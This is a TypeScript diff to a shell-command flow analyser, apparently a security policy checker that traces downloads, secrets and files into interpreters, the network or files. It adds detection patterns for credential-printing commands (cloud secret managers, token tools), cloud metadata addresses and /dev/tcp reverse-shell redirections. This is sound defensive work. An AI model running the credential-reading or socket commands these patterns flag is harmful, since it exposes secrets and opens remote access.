@@ -1,14 +1,16 @@
 // What flows where within one command line: from a download, a secret or a file into an interpreter, the network or a file;
 // through pipes, substitutions, variables, here-texts, descriptors, and files that are written and then read.
 
-import { and, FALSE, TRUE, type Truth, UNKNOWN } from "../truth.ts";
+import { and, FAINT, FALSE, or, TRUE, type Truth, UNKNOWN } from "../truth.ts";
 import { type CodeInput, codeInput } from "./code-input.ts";
 import { placed } from "./effect-draft.ts";
 import { type Effects, effectsOf } from "./effects.ts";
+import { printsEnvironment } from "./environment.ts";
 import { fileEdges } from "./file-edges.ts";
 import type { Call, Flow, Reading, Word } from "./model.ts";
-import { hasOption, type OptionReading, programName, readOptions, tableOf } from "./options.ts";
+import { type OptionReading, programName, readOptions, tableOf } from "./options.ts";
 import type { UserPrograms } from "./programs/index.ts";
+import { variableEdges } from "./variable-edges.ts";
 
 export type FlowFrom = "download" | "secret" | "file";
 export type FlowTo = "interpreter" | "network" | "file";
@@ -31,26 +33,55 @@ export interface Edge {
   readonly certain: Truth;
 }
 
-const better = (a: Truth, b: Truth): Truth =>
-  a === TRUE || b === TRUE ? TRUE : a === UNKNOWN || b === UNKNOWN ? UNKNOWN : FALSE;
+/** Judges a path as the policy sees secrets. */
+export type IsSecret = (path: Word, call: Call) => Truth;
 
-/** Does data of one kind reach a place of the other kind? `isSecret` judges a path as the policy sees secrets. */
-export function commandFlows(
+/** Calls and the ways between them: the same for every question about one command line. */
+export interface FlowGraph {
+  readonly reading: Reading;
+  readonly facts: ReadonlyMap<number, CallFacts>;
+  /** Worked out when a call is found whose data could go anywhere. */
+  readonly edges: () => ReadonlyMap<number, readonly Edge[]>;
+}
+
+export function flowGraph(reading: Reading, effects: (call: Call) => Effects, extra?: UserPrograms): FlowGraph {
+  const facts = new Map(reading.calls.map((call) => [call.id, factsOf(call, effects(call), extra)]));
+  let edges: ReadonlyMap<number, readonly Edge[]> | undefined;
+  return {
+    reading,
+    facts,
+    edges() {
+      edges ??= edgesOf(reading, facts);
+      return edges;
+    },
+  };
+}
+
+/** Does data of one kind reach a place of the other kind? */
+export const commandFlows = (
   reading: Reading,
   from: FlowFrom,
   to: FlowTo,
-  isSecret: (path: Word, call: Call) => Truth,
+  isSecret: IsSecret,
   extra?: UserPrograms,
-): Truth {
+): Truth =>
+  flowsIn(
+    flowGraph(reading, (call) => effectsOf(call, extra), extra),
+    from,
+    to,
+    isSecret,
+  );
+
+export function flowsIn({ reading, facts, edges }: FlowGraph, from: FlowFrom, to: FlowTo, isSecret: IsSecret): Truth {
   if (reading.unreadable.length > 0) return UNKNOWN;
-  const facts = new Map(reading.calls.map((call) => [call.id, factsOf(call, extra)]));
-  const edges = edgesOf(reading, facts);
+  // Where nothing sends, no path has to be looked at.
+  if (to === "network" && !someSends(facts)) return FALSE;
   const carries = new Map<number, Truth>();
   const queue: number[] = [];
   let result: Truth = FALSE;
   const taint = (id: number, value: Truth): void => {
     const before = carries.get(id) ?? FALSE;
-    const after = better(before, value);
+    const after = or(before, value);
     if (after === before) return;
     carries.set(id, after);
     queue.push(id);
@@ -58,29 +89,31 @@ export function commandFlows(
   for (const fact of facts.values()) {
     const source = isSource(fact, from, isSecret);
     if (source === FALSE) continue;
-    result = better(result, and(source, sinksByItself(fact, from, to, isSecret)));
+    result = or(result, and(source, sinksByItself(fact, from, to, isSecret)));
     taint(fact.call.id, source);
   }
   // Each call is taken up at most twice: once as unknown, once as true.
   for (let next = queue.pop(); next !== undefined && result !== TRUE; next = queue.pop()) {
     const value = carries.get(next) ?? FALSE;
-    for (const edge of edges.get(next) ?? []) {
+    for (const edge of edges().get(next) ?? []) {
       const fact = facts.get(edge.to);
       if (fact === undefined) continue;
       const arrives = and(value, edge.certain);
-      result = better(result, and(arrives, sinks(fact, edge, to)));
+      result = or(result, and(arrives, sinks(fact, edge, to)));
       if (fact.options?.table.digests !== true) taint(edge.to, arrives);
     }
   }
   return result;
 }
 
-function factsOf(call: Call, extra: UserPrograms | undefined): CallFacts {
+function factsOf(call: Call, effects: Effects, extra: UserPrograms | undefined): CallFacts {
   const table = tableOf(call, extra);
   const options = table === undefined ? null : readOptions(call, table);
-  const code = options === null ? { stdin: false, scripts: [], texts: [] } : codeInput(options);
-  return { call, options, effects: effectsOf(call, extra), code };
+  const code = options === null ? noCode : codeInput(options);
+  return { call, options, effects, code };
 }
+
+const noCode: CodeInput = { stdin: false, scripts: [], texts: [] };
 
 function edgesOf(reading: Reading, facts: ReadonlyMap<number, CallFacts>): ReadonlyMap<number, readonly Edge[]> {
   const edges = new Map<number, Edge[]>();
@@ -94,12 +127,13 @@ function edgesOf(reading: Reading, facts: ReadonlyMap<number, CallFacts>): Reado
     if (stdin.from === "calls")
       for (const from of stdin.calls) add({ from, to: id, by: "pipe", into: "stdin", certain: TRUE });
   for (const edge of fileEdges([...facts.values()])) add(edge);
+  for (const edge of variableEdges(reading.calls)) add(edge);
   return edges;
 }
 
 // Sources
 
-function isSource(fact: CallFacts, from: FlowFrom, isSecret: (path: Word, call: Call) => Truth): Truth {
+function isSource(fact: CallFacts, from: FlowFrom, isSecret: IsSecret): Truth {
   const { call, effects } = fact;
   if (programName(call) === null) return UNKNOWN;
   if (from !== "download" && fact.options?.table.digests === true) return FALSE;
@@ -107,12 +141,14 @@ function isSource(fact: CallFacts, from: FlowFrom, isSecret: (path: Word, call: 
     case "download":
       return downloads(fact);
     case "file":
-      return effects.reads.items.length > 0 ? TRUE : effects.reads.complete ? FALSE : UNKNOWN;
+      if (effects.reads.items.length > 0 || effects.sendsVariables || printsToken(fact) || printsChanges(fact))
+        return TRUE;
+      return effects.reads.complete ? FALSE : UNKNOWN;
     case "secret": {
       let found: Truth = printsSecrets(fact) ? TRUE : FALSE;
-      for (const word of effects.reads.items) found = better(found, isSecret(word, call));
-      for (const word of effects.reads.maybe) if (isSecret(word, call) !== FALSE) found = better(found, UNKNOWN);
-      return effects.reads.complete ? found : better(found, UNKNOWN);
+      for (const word of effects.reads.items) found = or(found, isSecret(word, call));
+      for (const word of effects.reads.maybe) if (isSecret(word, call) !== FALSE) found = or(found, UNKNOWN);
+      return effects.reads.complete ? found : or(found, UNKNOWN);
     }
   }
 }
@@ -120,15 +156,25 @@ function isSource(fact: CallFacts, from: FlowFrom, isSecret: (path: Word, call: 
 /** What bash makes of such a name is a connection. */
 const socketName = /^\/dev\/(?:tcp|udp)\//;
 
-function downloads({ call, options, effects }: CallFacts): Truth {
+function downloads({ call, options, effects, code }: CallFacts): Truth {
   const fromSocket = call.redirects.some(
     ({ op, target }) => (op === "<" || op === "<>") && socketName.test(target.text),
   );
-  if (fromSocket) return TRUE;
+  if (fromSocket || hearsSocket(call) || code.scripts.some(isAddress)) return TRUE;
+  if (effects.evaluates && effects.hosts.maybe.length > 0) return UNKNOWN;
   if (options?.table.downloads !== true || options.help) return FALSE;
-  if (effects.hosts.items.length > 0) return TRUE;
+  if (effects.hosts.items.length > 0 || fetchesObject(options)) return TRUE;
   return effects.hosts.complete ? FALSE : UNKNOWN;
 }
+
+/** What comes out of a bucket is a download, though it contacts no host of its own. */
+const fetchesObject = ({ table, operands }: OptionReading): boolean =>
+  table.special === "bucket" && operands.slice(0, -1).some(({ text }) => /^\w+:\/\//.test(text));
+
+/** `>& /dev/tcp/host/80 0>&1`: standard input is the same connection. */
+const hearsSocket = ({ redirects }: Call): boolean =>
+  redirects.some(({ fd, op }) => fd === 0 && op === "dup") &&
+  redirects.some(({ target }) => socketName.test(target.text));
 
 const metadataHosts = [
   "169.254.169.254",
@@ -137,45 +183,62 @@ const metadataHosts = [
   "169.254.170.2",
   "100.100.100.200",
 ];
-const secretName = /TOKEN|SECRET|PASS|KEY|CREDENTIAL|AUTH/i;
 
 /** The environment, the metadata service of a cloud, the token of a tool. */
 function printsSecrets({ call, options, effects }: CallFacts): boolean {
   if (effects.hosts.items.some((host) => metadataHosts.includes(host))) return true;
   if (options === null || options.help) return false;
-  const { table, operands, path } = options;
-  if (table.name === "printenv") return operands.length === 0 || operands.some(({ text }) => secretName.test(text));
-  if (table.name === "env") return operands.every(({ text }) => text.includes("=")) && !hasOption(options, "-S");
-  if (table.name === "set") return call.args.length === 0;
-  if (/^(?:export|declare|typeset)$/.test(table.name))
-    return operands.length === 0 && (call.args.length === 0 || hasOption(options, "-p") || hasOption(options, "-x"));
-  return table.name === "token" && path.join(" ") === "auth token";
+  return printsEnvironment(call, options);
 }
+
+/** What git prints of the repository without being told a file. */
+const printsChanges = ({ call, options }: CallFacts): boolean =>
+  options !== null &&
+  programName(call) === "git" &&
+  /^(?:diff|show|format-patch|cat-file)$/.test(options.path[0] ?? "");
+
+/** A token is there to be sent, but not to anybody: it counts as a file. */
+const printsToken = ({ call, options }: CallFacts): boolean =>
+  options !== null &&
+  tokenCommand.test(
+    [programName(call), ...options.path, ...options.operands.slice(0, 2).map(({ text }) => text)].join(" "),
+  );
+
+const tokenCommand =
+  /^(?:gh auth token|kubectl get secrets?\b|vault (?:read|kv get)\b|op (?:read|item get)\b|pass show\b|aws (?:secretsmanager get-secret-value|ssm get-parameters?|configure export-credentials|sts get-session-token)\b|gcloud (?:secrets versions access|auth (?:application-default )?print-)|security find-|az (?:keyvault secret show|account get-access-token)|doppler secrets|heroku config|git credential fill|sops\b|gpg\b)/;
 
 // Sinks
 
 /** A call that is source and sink in one: `curl -T .env`, `nc host 80 < .env`, `cp .env copy`. */
-function sinksByItself(
-  fact: CallFacts,
-  from: FlowFrom,
-  to: FlowTo,
-  isSecret: (path: Word, call: Call) => Truth,
-): Truth {
+function sinksByItself(fact: CallFacts, from: FlowFrom, to: FlowTo, isSecret: IsSecret): Truth {
   const { call, effects } = fact;
   if (to === "file") return writesFile(fact);
-  if (to === "interpreter") return from === "download" && runsDownload(fact) ? TRUE : FALSE;
+  if (to === "interpreter") {
+    if (from !== "download") return FALSE;
+    if (runsDownload(fact)) return TRUE;
+    return effects.evaluates && effects.hosts.maybe.length > 0 ? UNKNOWN : FALSE;
+  }
   if (from === "download") return FALSE;
-  let found: Truth = effects.sendsOutput ? TRUE : FALSE;
-  for (const word of effects.uploads.items) found = better(found, from === "file" ? TRUE : isSecret(word, call));
-  if (!effects.uploads.complete) found = better(found, UNKNOWN);
+  let found: Truth = effects.sendsOutput || (effects.sendsVariables && from === "file") ? TRUE : FALSE;
+  for (const word of effects.uploads.items) found = or(found, from === "file" ? TRUE : isSecret(word, call));
+  if (!effects.uploads.complete) found = or(found, effects.uploads.isFaint ? FAINT : UNKNOWN);
+  // Code of another language that names both a file and an address may send one to the other.
+  if (effects.reads.maybe.length > 0 && effects.hosts.maybe.length > 0) found = or(found, UNKNOWN);
   if (call.stdin.from === "file" && sendsInput(fact) === TRUE)
-    found = better(found, from === "file" ? TRUE : isSecret(placed(call.stdin.file, call.cwd), call));
+    found = or(found, from === "file" ? TRUE : isSecret(placed(call.stdin.file, call.cwd), call));
   return found;
 }
 
+const isAddress = ({ text }: Word): boolean => /^https?:/i.test(text);
+
 /** `deno run https://...`, `bash < /dev/tcp/host/80`. */
-function runsDownload({ call, code }: CallFacts): boolean {
-  if (code.scripts.some(({ text }) => /^https?:/i.test(text))) return true;
+function runsDownload({ call, code, options }: CallFacts): boolean {
+  if (code.scripts.some(isAddress)) return true;
+  // `npx https://...`: fetched and run at once.
+  const fetched =
+    options?.table.wrapper !== undefined && options.table.downloads === true ? options.operands[0] : undefined;
+  if (fetched !== undefined && isAddress(fetched)) return true;
+  if (code.stdin && hearsSocket(call)) return true;
   return (
     code.stdin && call.redirects.some(({ fd, op, target }) => fd === 0 && op !== "dup" && socketName.test(target.text))
   );
@@ -194,11 +257,22 @@ function writesFile({ effects }: CallFacts): Truth {
 
 const isDynamic = (word: Word): boolean => word.kind === "dynamic" || /^\/(?:dev|proc\/self)\/fd\/\d+$/.test(word.text);
 
-function runsIt({ code, options }: CallFacts, { into }: Edge): Truth {
+function runsIt({ code, options, effects }: CallFacts, { into }: Edge): Truth {
   if (into === "code") return TRUE;
-  if (into === "stdin") return code.stdin ? TRUE : FALSE;
+  if (into === "stdin") return code.stdin ? TRUE : effects.evaluates ? UNKNOWN : FALSE;
   if (options === null) return FALSE;
   return into === "argument" && [...code.texts, ...code.scripts].some(isDynamic) ? TRUE : FALSE;
+}
+
+/** INVARIANT: a call that is none of these gives false in `sendsIt`, and in `sinksByItself` for the network. */
+function someSends(facts: ReadonlyMap<number, CallFacts>): boolean {
+  for (const { call, effects, options } of facts.values()) {
+    const { hosts, uploads } = effects;
+    if (effects.sendsInput || effects.sendsOutput || options?.table.sends === true) return true;
+    if (hosts.items.length > 0 || hosts.maybe.length > 0 || !hosts.complete) return true;
+    if (uploads.items.length > 0 || !uploads.complete || programName(call) === null) return true;
+  }
+  return false;
 }
 
 /** Does the call send what it is given? */
